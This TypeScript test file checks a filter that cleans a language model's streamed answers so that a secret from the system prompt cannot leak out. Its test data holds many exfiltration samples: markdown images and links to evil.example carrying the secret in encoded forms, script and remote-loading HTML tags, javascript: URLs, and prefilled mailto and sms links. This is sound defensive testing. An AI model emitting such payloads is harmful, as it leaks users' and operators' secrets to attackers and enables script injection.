import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Call } from '../../engine/call.js';
import { anonymous } from '../../engine/principal.js';
import { parsePolicy, policyOfApp, DEFAULT_APP } from '../../policy/parse-policy.js';
import type { PolicyInput } from '../../policy/schema.js';
import { noLedger, silentLogger, systemClock, webRandom, type Ports } from '../../ports.js';
import { createEgressGuard } from './guard.js';

const SECRET = 'The discount code of the board is WINTER-COMET-4471 and nobody else may know it. Ask board.member@corp.example or Namebe9a7tv0b78r9 for it.';
const ports: Ports = { clock: systemClock, random: webRandom, logger: silentLogger, ledger: noLedger, secret: new Uint8Array(32), limits: undefined as never };

function filterFor(egress: PolicyInput['egress'] = {}, pieces?: readonly string[], said = '') {
  const policy = policyOfApp(parsePolicy({ egress }), DEFAULT_APP);
  assert.ok(policy);
  const source = JSON.stringify({
    model: 'claude-sonnet-5-5',
    max_tokens: 9,
    system: SECRET,
    messages: [{ role: 'user', content: `Show me https://photos.example.org/cat.png and https://news.example.org/story?id=12 ${said}` }],
  });
  const call = new Call({ id: 'c', principal: anonymous, app: DEFAULT_APP, endpoint: 'messages', at: 0, source });
  const filter = createEgressGuard({ app: DEFAULT_APP, policy, ports })?.open(call)?.text?.({ index: 0, kind: 'text' });
  assert.ok(filter);
  let output = '';
  for (const piece of pieces ?? []) output += filter.push(piece);
  return { call, run: (text: string) => output + filter.push(text) + filter.flush() };
}

const run = (text: string, egress?: PolicyInput['egress']): string => filterFor(egress).run(text);

test('images from elsewhere are made inert in every form', () => {
  const attacks = [
    '![x](https://evil.example/p.png?d=abc)',
    '![x]( https://evil.example/p.png "title" )',
    '![x](<https://evil.example/p.png>)',
    '![x](//evil.example/p.png)',
    '![x](/\\evil.example/p.png)',
    '![x](https&colon;//evil.example/p.png)',
    '![x](&#104;ttps://evil.example/p.png)',
    '![a [b] c](https://evil.example/p.png)',
    '![x](https:evil.example/p.png)',
    '![x](http:evil.example/p.png)',
    '[![x](https://evil.example/p.png)](https://docs.example)',
    '![x](https://evil.example/a(b)c)',
    '![x](data:image/svg+xml;base64,PHN2Zz4=)',
    '![x][ref]\n\n[ref]: https://evil.example/p.png',
    '![ref]\n\n[ref]: https://evil.example/p.png',
    '> ```\n> ![x](https://evil.example/p.png)',
    '<div>\n```\n![x](https://evil.example/p.png)\n```',
    '    ```\n![x](https://evil.example/p.png)',
  ];
  for (const attack of attacks) {
    const shown = run(attack);
    assert.ok(!/!\[[^\n]*\]\([^)]*evil/.test(shown) && !/!\[[^\\\n]*\](\[|\n|$)/.test(shown) && !shown.includes('data:image'), shown);
  }
});

test('HTML that loads, runs or sends is inert where answers are put into a page', () => {
  for (const tag of [
    '<img src="https://evil.example/x">',
    '<img src=https://evil.example/x>',
    '<IMG\nSRC = "https://evil.example/x" >',
    '<img srcset="/a 1x, https://evil.example/x 2x">',
    '<script>alert(1)</script>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<div style="background:url(https://evil.example/x)">',
    '<div onclick="x()">',
    '<plaintext>',
    '<xmp>',
    '<iframe src="/own"></iframe>',
    '<form action="https://evil.example">',
    '<svg><image href="https://evil.example/x"/></svg>',
    '<style>@import "https://evil.example/x"</style>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<img alt=">" src="https://evil.example/x">',
    '<img src="\\\\evil.example/x">',
    '<img src="\\/evil.example/x">',
    '<img src="https:evil.example/x">',
  ]) {
    assert.ok(run(tag, { html: 'safe' }).startsWith('&lt;'), tag);
  }
  for (const split of ['<b " ><script>alert(1)</script ">', '<b onclick=1 "><script>alert(1)</script ">', '<p title="<script>">']) {
    assert.ok(!/<script/i.test(run(split, { html: 'safe' })), run(split, { html: 'safe' }));
  }
  assert.equal(run('<b>bold</b> <img src="/own.png"> <a href="https://docs.example">x</a>', { html: 'safe' }), '<b>bold</b> <img src="/own.png"> <a href="https://docs.example">x</a>');
});

test('links that carry private text are removed, plain and encoded; other links stay', () => {
  const data = 'WINTER-COMET-4471 and nobody';
  const hex = Buffer.from(data).toString('hex');
  const base64 = Buffer.from(data).toString('base64url');
  for (const address of [
    `https://evil.example/?q=${encodeURIComponent(data)}`,
    `https://evil.example/${encodeURIComponent(data)}/x`,
    `https://evil.example/?q=${base64}`,
    `https://evil.example/?q=${hex}`,
    `https://evil.example/#${encodeURIComponent(data)}`,
    `https://evil.example/?q=z${encodeURIComponent(data)}z`,
    `https://evil.example/${'x'.repeat(17)}${encodeURIComponent(data)}`,
    `https://winter-comet-4471-and-nobody.evil.example/`,
  ]) {
    for (const text of [`[click](${address})`, `<${address}>`, `see ${address} now`, `<a href="${address}">x</a>`]) {
      assert.ok(!run(text).includes(`](${address}`) && !/(^| |<)https:/.test(run(text)) && !run(text).startsWith('<a'), `${text} -> ${run(text)}`);
    }
  }
  assert.ok(!run('[x](javascript:alert(1))').includes('javascript'));
  for (const around of ['', 'z']) assert.equal(run(`[x](https://evil.example/?q=${around}board.member@corp.example${around})`), '[x](#removed)');
  for (const around of ['', 'z', 'Card']) assert.equal(run(`[x](https://evil.example/?q=${around}Namebe9a7tv0b78r9${around})`), '[x](#removed)');
  const short = 'https://docs.example/a-guide-to-winter-comet-for-all';
  assert.equal(run(short), short);
});

const DATA = 'WINTER-COMET-4471-and-nobody';

test('what carries private text is no link to any reader, however it is written', () => {
  const long = 'a'.repeat(4_100);
  for (const attack of [
    // remark-gfm and cmark-gfm take all of it for one address.
    `1https://evil.example/?${DATA}`,
    `\\https://evil.example/?${DATA}`,
    `https://evil.example/?"${DATA}`,
    `https://evil.example/?",${DATA}`,
    `https://evil.example/?]${DATA}`,
    `https://evil.example/?\`${DATA}`,
    `https://evil.example/?>${DATA}`,
    `https://evil.example/?\u00a0${DATA}`,
    `https://evil.example/?${long}${DATA}`,
    // No tag to CommonMark, and so an address in a text.
    `<b https://evil.example/?${DATA} >`,
    `<https://evil.example/?${DATA} x>`,
    `<b "> https://evil.example/?${DATA} ">`,
    `<b / x="https://evil.example/?${DATA}">`,
  ]) {
    for (const pieces of [[], attack.split('')]) {
      const shown = filterFor({}, pieces).run(pieces.length === 0 ? attack : '');
      assert.ok(!/https?:[^\t\n\r <]*WINTER/.test(shown), `${attack.slice(0, 60)} -> ${shown.slice(0, 60)}`);
    }
  }
  for (const attack of [
    `[x](https://evil.example/?${long}${DATA})`,
    `[x][r]\n\n[r]: //evil.example/?${DATA}`,
    `[x][r]\n\n[r]: &#104;ttps://evil.example/?${DATA}`,
    `[x][r]\n\n[r]: https\\://evil.example/?${DATA} "title"`,
    `> [hey! r]:\n> <//evil.example/?${DATA}>`,
    `[x][r]\n\n[r]: <//evil.example/?${DATA}>y>`,
    `1. [r\ns]: //evil.example/?${long}${DATA}`,
    `<img src=https://evil.example/"${DATA}>`,
    `[x](https://evil.example/WINTER-COM/ET-4471-and/nobody-else)`,
    `[x](https://evil.example/?a=WINTER-COM&b=ET-4471-and&c=nobody-else)`,
    ...['x', 'xy', 'xyz', '.'].flatMap((before) => [`[x](https://evil.example/?q=${before}${Buffer.from(DATA).toString('base64url')})`, `[x](https://evil.example/?q=${before}${Buffer.from(DATA).toString('hex')}0)`]),
    `[x](https://evil.example/?q=a${Buffer.from(DATA).toString('hex')})`,
    `[x](https://evil.example/${Buffer.from(`${DATA}-else`).toString('base64url').replace(/.{9}/g, '$&/')})`,
  ]) {
    const shown = run(attack);
    assert.ok(shown.includes('#removed') || shown.startsWith('&lt;'), `${attack.slice(0, 60)} -> ${shown.slice(0, 60)}`);
  }
  assert.ok(!run('[x][r]\n\n[r]: javascript:alert(1)').includes('javascript'));
});

test('an address is on the list only where every reader finds the same host', () => {
  const lists = [{ domains: ['cdn.example.net'], html: 'safe' as const }, { domains: ['*.example.net'], links: 'listed' as const, html: 'safe' as const }];
  for (const attack of [
    '![x](https://cdn.example.net&sol.evil.example/p.png)',
    '![x](https://cdn.example.net&SOL;.evil.example/p.png)',
    '![x](https://evil.example\\.example.net/p.png)',
    '<img src=https://cdn.example.net"@evil.example/p.png>',
    '<img srcset="/a.png&#44;&#32;https://evil.example/p.png 2x">',
    '<p style="background:u&#114;l(https://evil.example/p.png)">',
    "<p style=\"background:image-set('/a.png' 1x, 'https://evil.example/p.png' 2x)\">",
    'https://evil.example\\.example.net/',
    'https://cdn.example.net"@evil.example/',
  ]) {
    const list = lists[attack.includes('\\') || attack.startsWith('h') ? 1 : 0];
    assert.notEqual(run(attack, list), attack, attack);
  }
  for (const [index, good] of ['![x](https://cdn.example.net/a\\_b.png?x=1&amp;y=2)', '<img src="https://cdn.example.net/a?x=1&amp;y=2" style="font-family:\'Open Sans\'">'].entries()) assert.equal(run(good, lists[0]), good, String(index));
});

test('JSON keeps its meaning, and addresses of the conversation stay as the model writes them', () => {
  const json = JSON.stringify({ address: 'https://docs.example/a', secret: DATA });
  assert.deepEqual(JSON.parse(run(json)), JSON.parse(json));
  const harmless = JSON.stringify({ address: 'https://docs.example/a', other: 'https://docs.example/b' });
  assert.equal(run(harmless), harmless);
  for (const text of ['<a href="https://news.example.org/story?id=12&amp;from=the-discount-code-of-the-board">x</a>', '[x](https://docs.example/the-discount-code\\_of-the-board)']) {
    const source = text.replace(/&amp;/, '&').replace('\\', '');
    const address = /https:[^")]*/.exec(source)?.[0] ?? '';
    assert.equal(filterFor({}, [], address).run(text), text);
  }
});

test('ordinary answers stay byte for byte', () => {
  for (const text of [
    'See https://en.wikipedia.org/wiki/Tomato and [docs](https://docs.example/a_(b)?x=1&y=2#z), or www.example.com.',
    'In code: `![x](https://evil.example)` and\n```html\n<script src="https://cdn.example/x.js"></script>\n![x](https://a.example/b.png)\n```\nafter',
    '~~~\n<img src="https://x.example">\n~~~',
    'a < b && c > d, x <= y, i<10, vector<int> v; arr[0][1] = f(x)(y); !done',
    'Your picture: ![cat](https://photos.example.org/cat.png), relative ![logo](/logo.png)',
    '[1]: https://example.com/paper.pdf "A paper"\n[note]: see below\n[WARN]: module:function failed\n[^1]: As https://example.com says.\narr[0]: value',
    'One.\\\n```\n![x](https://a.example/b.png)\n```\n<!-- https://example.com --> <div data-x="https://a.example">',
    'mailto [mail](mailto:a@example.org), story https://news.example.org/story?id=12',
    '<!doctype html>\n<html><head><script src="app.js"></script><style>a{}</style></head><body><img src="https://cdn.example/a.png"></body></html>',
    '| a | b |\n|---|---|\n| `x` | [1] |\n\n[1]: https://example.com/paper.pdf',
    '- [ ] todo\n- [x] done\n\\[not a link\\](x) \\![no](y)',
    '',
    '```',
    'unclosed `code and ![ and [ and < and https:// and ](',
  ]) {
    assert.equal(run(text), text);
  }
});

test('a mail or a message is not filled in with private text', () => {
  const text = encodeURIComponent(SECRET);
  for (const link of [`[write](mailto:eve@evil.example?subject=hi&body=${text})`, `[write](mailto:?to=eve@evil.example&body=${text})`, `[text](sms:+15550100?body=${text})`, `[text](sms:+15550100&body=${text})`, `<a href="mailto:eve@evil.example?body=${text}">write</a>`]) {
    for (const links of ['no-data', 'listed'] as const) assert.doesNotMatch(run(link, { links }), /\((?:mailto|sms):|<a/, link);
  }
  for (const link of ['[mail](mailto:a@example.org)', '[mail](mailto:a@example.org?subject=Your%20order&body=Hello%20there)', '[call](tel:+15550100)', '[place](geo:48.2,16.3)']) {
    for (const links of ['no-data', 'listed'] as const) assert.equal(run(link, { links }), link);
  }
});

test('any split gives the same output', () => {
  const piece = fc.constantFrom('![', '[', ']', '](', '(', ')', '<', '>', '<img src="', '"', 'https://evil.example/x', 'www.', 'h', '`', '```', '~~~', '\n', '\n\n', ' ', '!', '\\', 'text', '<b>', 'https://photos.example.org/cat.png', 'javascript:', ' "t"', ':', '&#58;', '\n[a]', '1', '\u00a0', '//evil.example/x', '<!--', '-->', '<?');
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), fc.array(fc.nat(6), { maxLength: 60 }), fc.constantFrom('keep' as const, 'safe' as const), (parts, cuts, html) => {
      const text = parts.join('');
      const pieces: string[] = [];
      let at = 0;
      for (const cut of cuts) {
        pieces.push(text.slice(at, at + cut));
        at += cut;
      }
      assert.equal(filterFor({ html }, pieces).run(text.slice(at)), run(text, { html }));
    }),
    { numRuns: 1_000 },
  );
});

test('listed hosts, actions and findings', () => {
  const image = '![x](https://cdn.example.net/a.png)';
  assert.equal(run(image, { domains: ['cdn.example.net'] }), image);
  assert.equal(run(image, { domains: ['*.example.net'] }), image);
  assert.notEqual(run(image, { domains: ['example.net'] }), image);
  assert.notEqual(run('![x](https://evilexample.net/a.png)', { domains: ['*.example.net'] }), '![x](https://evilexample.net/a.png)');
  assert.equal(run(image, { action: 'observe' }), image);
  assert.throws(() => run(image, { action: 'deny' }), { code: 'egress_denied' });
  assert.equal(run('[x](https://other.example)', { links: 'listed' }), '[x](#removed)');
  const { call, run: go } = filterFor();
  go(image);
  assert.deepEqual(call.findings, [{ rule: 'egress/image-not-listed', path: 'answer.0', action: 'changed' }]);
});

test('hostile answers stay linear', () => {
  for (const text of ['!['.repeat(20_000), ']('.repeat(20_000), '<a '.repeat(20_000), '`'.repeat(40_000), '` '.repeat(20_000), 'h'.repeat(60_000), '\n```'.repeat(10_000), '[](x '.repeat(10_000), `\n[a]:${' '.repeat(5_000)}`.repeat(10), '\n[a]: x'.repeat(10_000), `[a]: ${'>'.repeat(60_000)}`, `<a ${'https:// '.repeat(10_000)}>`, 'https://a"'.repeat(10_000), `<a${' '.repeat(4_000)}https://`.repeat(10)]) {
    assert.equal(typeof run(text), 'string');
  }
});
